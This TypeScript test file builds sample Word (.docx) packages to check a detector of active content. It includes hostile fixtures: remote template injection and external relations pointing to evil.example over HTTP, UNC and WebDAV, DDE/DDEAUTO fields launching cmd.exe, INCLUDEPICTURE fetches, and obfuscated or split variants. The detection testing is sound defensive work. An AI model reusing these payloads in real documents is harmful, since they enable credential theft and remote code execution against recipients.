import * as make from '../make-test-documents.ts';
import type { SampleRow } from './document-sample.ts';

const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const bodyOf = (content: string, name = 'word/document.xml') => ({
  name,
  content: `<?xml version="1.0" encoding="UTF-8"?><w:document ${W}><w:body><w:p>${content}</w:p></w:body></w:document>`,
});
const docxOf = (content: string) => make.makeZip([make.contentTypes(), bodyOf(content)]);
const run = (content: string) => `<w:r>${content}</w:r>`;
const char = (type: string) => run(`<w:fldChar w:fldCharType="${type}"/>`);
const instruction = (...texts: string[]) =>
  texts.map((text) => run(`<w:instrText>${text}</w:instrText>`)).join('</w:p><w:p>');
const field = (...texts: string[]) =>
  `${char('begin')}${instruction(...texts)}${char('separate')}${run('<w:t>x</w:t>')}${char('end')}`;
const simple = (text: string) => `<w:fldSimple w:instr="${text}"><w:r><w:t>x</w:t></w:r></w:fldSimple>`;

const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
/** A relation of a part. */
const related = (
  type: string,
  target: string,
  part = 'word/_rels/document.xml.rels',
  mode = 'TargetMode="External"',
) => ({
  name: part,
  content: `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${OFFICE}/${type}" Target="${target}" ${mode}/></Relationships>`,
});
const template = (target: string) => make.makeDocx(related('attachedTemplate', target, 'word/_rels/settings.xml.rels'));
const image = (part: string) => make.makeDocx(related('image', 'https://evil.example/a.png', part));
const embedded = (...parts: Parameters<typeof make.makeZip>[0]) =>
  make.makeDocx({
    name: 'word/embeddings/Sheet1.xlsx',
    content: make.makeZip([{ name: 'xl/workbook.xml', content: '<workbook/>' }, ...parts]),
  });
const utf32 = (text: string) => Buffer.from([...`\ufeff${text}`].map((char) => `${char}\0`).join(''), 'utf16le');
const utf16 = (text: string, mark = '\ufeff') => Buffer.from(mark + text, 'utf16le');
const remoteImage = related('image', 'https://evil.example/a.png');

/** Word documents (.docx) with fields, relations and embedded files that act, and genuine ones that resemble them. */
export const hostileWordDocuments: SampleRow[] = [
  ...[
    'http://evil.example/t.dotm',
    'HTTPS://evil.example/t.dotm',
    '&#104;ttp://evil.example/t.dotm',
    ' http://evil.example/t.dotm',
    'file://evil.example/share/t.dotm',
    'file:////evil.example/share/t.dotm',
    'file://///evil.example/share/t.dotm',
    'file:\\\\evil.example\\share\\t.dotm',
    'file:///\\\\evil.example\\share\\t.dotm',
    'FILE://10.0.0.1/t.dotm',
    'file:///%5C%5Cevil.example%5Ct.dotm',
    'file:&#47;/evil.example/t.dotm',
    '\\\\evil.example\\share\\t.dotm',
    '\\\\evil.example@SSL@443\\DavWWWRoot\\t.dotm',
    '\\\\?\\UNC\\evil.example\\t.dotm',
    '//evil.example/t.dotm',
    '/\\evil.example/t.dotm',
    'ftp://evil.example/t.dotm',
    'mhtml:http://evil.example/t',
    'ms-word:ofe|u|http://evil.example/t.dotm',
  ].map((target): SampleRow => [`template ${target}`, () => template(target), 'active']),
  [
    'template without a mode',
    () => make.makeDocx(related('attachedTemplate', 'http://evil.example', undefined, '')),
    'active',
  ],
  [
    'mode in lower case and entities',
    () => make.makeDocx(related('image', 'x', undefined, 'TargetMode=" &#101;xternal "')),
    'active',
  ],
  [
    'prefixes and single quotes',
    () =>
      make.makeDocx({
        name: 'word/_rels/document.xml.rels',
        content: `<p:Relationships xmlns:p="x"><p:Relationship Type='${OFFICE}/image' Target='http://x' Id='a>b' TargetMode='External'></p:Relationship></p:Relationships>`,
      }),
    'active',
  ],
  ...[
    'header1',
    'footer2',
    'settings',
    'footnotes',
    'comments',
    'glossary/document',
    'glossary/settings',
    'webSettings',
    'theme/theme1',
    'charts/chart1',
    'diagrams/data1',
    'numbering',
  ].map((part): SampleRow => {
    const at = part.lastIndexOf('/') + 1;
    return [`picture of ${part}`, () => image(`word/${part.slice(0, at)}_rels/${part.slice(at)}.xml.rels`), 'active'];
  }),
  ['picture of the package', () => image('_rels/.rels'), 'active'],
  ['picture of custom XML', () => image('customXml/_rels/item1.xml.rels'), 'active'],
  ['relations with an unusual name', () => image('WORD/_RELS/Document.XML.RELS'), 'active'],
  ['relations under another ending', () => image('word/_rels/document.xml.%72els'), 'active'],
  [
    'relations in UTF-32 of the other byte order',
    () => make.makeDocx({ ...remoteImage, content: utf32(remoteImage.content).swap32() }),
    'broken',
  ],
  [
    'relations in UTF-32 without a mark',
    () => make.makeDocx({ ...remoteImage, content: utf32(remoteImage.content).subarray(4) }),
    'broken',
  ],
  [
    'relations in UTF-16 behind a blank',
    () => make.makeDocx({ ...remoteImage, content: utf16(` ${remoteImage.content}`, '') }),
    'broken',
  ],
  [
    'font that begins as XML',
    () => make.makeDocx({ name: 'word/fonts/font1.odttf', content: Buffer.from('<a>\0\x01\x80', 'latin1') }),
    'docx',
  ],
  ['relations in UTF-32', () => make.makeDocx({ ...remoteImage, content: utf32(remoteImage.content) }), 'broken'],
  ['relations in UTF-16', () => make.makeDocx({ ...remoteImage, content: utf16(remoteImage.content) }), 'active'],
  [
    'relations in UTF-16 without a mark',
    () => make.makeDocx({ ...remoteImage, content: utf16(remoteImage.content, '') }),
    'active',
  ],
  [
    'relations in UTF-7',
    () => make.makeDocx({ ...remoteImage, content: '<?xml version="1.0" encoding="utf-7"?>+ADw-Relationships/+AD4-' }),
    'broken',
  ],
  [
    'relations with entities of their own',
    () => make.makeDocx({ ...remoteImage, content: '<!DOCTYPE x [<!ENTITY e "External">]><Relationships/>' }),
    'broken',
  ],
  [
    'links of the settings',
    () => make.makeDocx(related('hyperlink', 'http://x', 'word/_rels/settings.xml.rels')),
    'active',
  ],
  ...['aFChunk', 'oleObject', 'control', 'frame', 'subDocument', 'activeXControlBinary'].map(
    (type): SampleRow => [
      `part of type ${type}`,
      () => make.makeDocx(related(type, 'part.bin', undefined, '')),
      'active',
    ],
  ),
  ...['oleObject', 'image', 'video', 'audio', 'customXml', 'package', 'mailMergeSource', 'transform', 'http'].map(
    (type): SampleRow => [`external ${type}`, () => make.makeDocx(related(type, 'file:///C:\\a.xml')), 'active'],
  ),
  ['macros by relation', () => make.makeDocx(related('vbaProject', 'a.bin', undefined, '')), 'macros'],
  [
    'embedded sheet with an external link',
    () => embedded(related('externalLinkPath', 'http://x', 'xl/externalLinks/_rels/a.xml.rels')),
    'active',
  ],
  ['embedded sheet with macros', () => embedded({ name: 'xl/vbaProject.bin', content: 'x' }), 'macros'],
  ['embedded sheet under a password', () => embedded({ name: 'xl/a.xml', content: 'x', flags: 1 }), 'active'],
  [
    'packages nested deeply',
    () => embedded({ name: 'a.xlsx', content: embedded({ name: 'b.xlsx', content: embedded() }) }),
    'bomb',
  ],
  ['element altChunk', () => docxOf('<w:altChunk r:id="r1"/>'), 'active'],
  ['element OLEObject', () => docxOf('<w:object><o:OLEObject Type="Link" r:id="r1"/></w:object>'), 'active'],
  [
    'drawing with a picture from the web',
    () => docxOf('<v:shape><v:imagedata src="http://evil.example/a.png"/></v:shape>'),
    'active',
  ],
  ['drawing with a picture from a share', () => docxOf('<v:fill o:href="\\\\evil.example\\a.png"/>'), 'active'],
  // Fields.
  ['DDE, simple', () => docxOf(simple('DDE &quot;c:\\\\windows\\\\cmd.exe&quot; &quot;/k calc&quot;')), 'active'],
  ['DDEAUTO, simple, spaces and case', () => docxOf(simple('  dDeAuto   c:\\\\cmd.exe')), 'active'],
  ['DDEAUTO in entities', () => docxOf(simple('&#68;&#x44;EAUTO x')), 'active'],
  ['DDEAUTO, complex', () => docxOf(field(' DDEAUTO c:\\\\cmd.exe ')), 'active'],
  ['DDEAUTO split over runs and paragraphs', () => docxOf(field('D', 'D', 'E', 'AU', 'TO', ' x')), 'active'],
  ['DDEAUTO split by a comment', () => docxOf(field('DD<!-- > -->EAUTO x')), 'active'],
  ['DDEAUTO in a CDATA section', () => docxOf(field('<![CDATA[ DDEAUTO x]]>')), 'active'],
  ['DDEAUTO, quoted', () => docxOf(field('"DDEAUTO" x')), 'active'],
  ['DDEAUTO after tabs and line ends', () => docxOf(field('&#9;\n&#160;DDEAUTO\tx')), 'active'],
  ['DDEAUTO after many blanks', () => docxOf(field(' '.repeat(20_000), 'DDEAUTO x')), 'active'],
  ['DDEAUTO without an end', () => docxOf(`${char('begin')}${instruction('DDEAUTO x')}`), 'active'],
  [
    'DDEAUTO in a nested field',
    () => docxOf(`${char('begin')}${instruction('IF 1 = 1 ')}${field('DDEAUTO x')}${char('end')}`),
    'active',
  ],
  [
    'DDE computed by a nested field',
    () => docxOf(`${char('begin')}${instruction('DD')}${field('QUOTE 69')}${instruction(' x')}${char('end')}`),
    'active',
  ],
  [
    'DDEAUTO as deleted text',
    () => docxOf(`${char('begin')}${run('<w:delInstrText>DDEAUTO x</w:delInstrText>')}${char('end')}`),
    'active',
  ],
  ['DDEAUTO as text', () => docxOf(`${char('begin')}${run('<w:t>DDEAUTO x</w:t>')}${char('end')}`), 'active'],
  ['DDEAUTO under another prefix', () => docxOf('<a:fldSimple a:instr="DDEAUTO x"/>'), 'active'],
  ['DDEAUTO in a header', () => make.makeDocx(bodyOf(field('DDEAUTO x'), 'word/header1.xml')), 'active'],
  ['DDEAUTO in the glossary', () => make.makeDocx(bodyOf(simple('DDE x'), 'word/glossary/document.xml')), 'active'],
  [
    'DDEAUTO in UTF-16',
    () =>
      make.makeDocx({
        name: 'word/footer1.xml',
        content: utf16(bodyOf(field('DDEAUTO x')).content.replace('UTF-8', 'UTF-16')),
      }),
    'active',
  ],
  ['LINK', () => docxOf(field('LINK Excel.Sheet.12 "C:\\\\a.xlsx" \\a')), 'active'],
  ['DATABASE', () => docxOf(field('DATABASE \\d "C:\\\\a.mdb"')), 'active'],
  ...[
    '"http://evil.example/a.png" \\* MERGEFORMATINET',
    '\\d "\\\\\\\\evil.example\\\\a.png"',
    'file://evil.example/a.png',
    '"\\\\evil.example\\a.png"',
    '“https://evil.example”',
    '"//evil.example/a"',
    '"file:////evil.example/a"',
  ].flatMap((argument): SampleRow[] => [
    [`INCLUDEPICTURE ${argument}`, () => docxOf(field(`INCLUDEPICTURE ${argument}`)), 'active'],
    [`includetext ${argument}`, () => docxOf(simple(`includetext ${argument.replaceAll('"', '&quot;')}`)), 'active'],
  ]),
  [
    'INCLUDEPICTURE computed',
    () => docxOf(`${char('begin')}${instruction('INCLUDEPICTURE ')}${field('QUOTE 104')}${char('end')}`),
    'active',
  ],
  // What must be accepted.
  ...[
    'file:///C:\\Users\\a\\t.dotx',
    'file:///C:/Users/a/t.dotx',
    'C:\\Users\\a\\t.dotx',
    'Normal.dotm',
    'file:///Users/a/Library/t.dotx',
    'file:///C:\\Users\\a%20b\\t.dotx',
    'file://localhost/C:/t.dotx',
  ].map((target): SampleRow => [`template ${target}`, () => template(target), 'docx']),
  ['web links', () => make.makeDocx(related('hyperlink', 'https://example.com/?a=b&amp;c=d')), 'docx'],
  [
    'links of a header',
    () => make.makeDocx(related('hyperlink', 'mailto:a@example.com', 'word/_rels/header1.xml.rels')),
    'docx',
  ],
  [
    'pictures and parts inside',
    () =>
      make.makeDocx(
        related('image', 'media/image1.png', undefined, ''),
        related('image', '/word/media/a.png', 'word/_rels/header1.xml.rels', 'TargetMode="Internal"'),
      ),
    'docx',
  ],
  [
    'ordinary fields',
    () =>
      docxOf(
        field(' PAGE ') +
          field('HYPERLINK "https://example.com"') +
          field('MACROBUTTON NoMacro [Your name]') +
          simple(' DATE \\@ "d MMMM yyyy" ') +
          field('TOC \\o "1-3"'),
      ),
    'docx',
  ],
  [
    'formulas of nested fields',
    () => docxOf(`${char('begin')}${instruction(' =')}${field('PAGE')}${instruction('-1')}${char('end')}`),
    'docx',
  ],
  [
    'picture field of the local machine',
    () => docxOf(field('INCLUDEPICTURE "C:\\\\Users\\\\a\\\\photo.jpg" \\* MERGEFORMAT')),
    'docx',
  ],
  [
    'picture field of a mail',
    () => docxOf(field('INCLUDEPICTURE "cid:image001.png@01D5" \\* MERGEFORMATINET')),
    'docx',
  ],
  [
    'text about fields',
    () => docxOf(run('<w:t>DDEAUTO, INCLUDEPICTURE "http://example.com" and TargetMode="External"</w:t>')),
    'docx',
  ],
  [
    'a chart with its sheet',
    () => embedded(related('worksheet', 'worksheets/sheet1.xml', 'xl/_rels/workbook.xml.rels', '')),
    'docx',
  ],
  [
    'a picture with a document type',
    () =>
      make.makeDocx({
        name: 'word/media/image1.svg',
        content: '<!DOCTYPE svg PUBLIC "x" "http://www.w3.org/x.dtd"><svg/>',
      }),
    'docx',
  ],
];
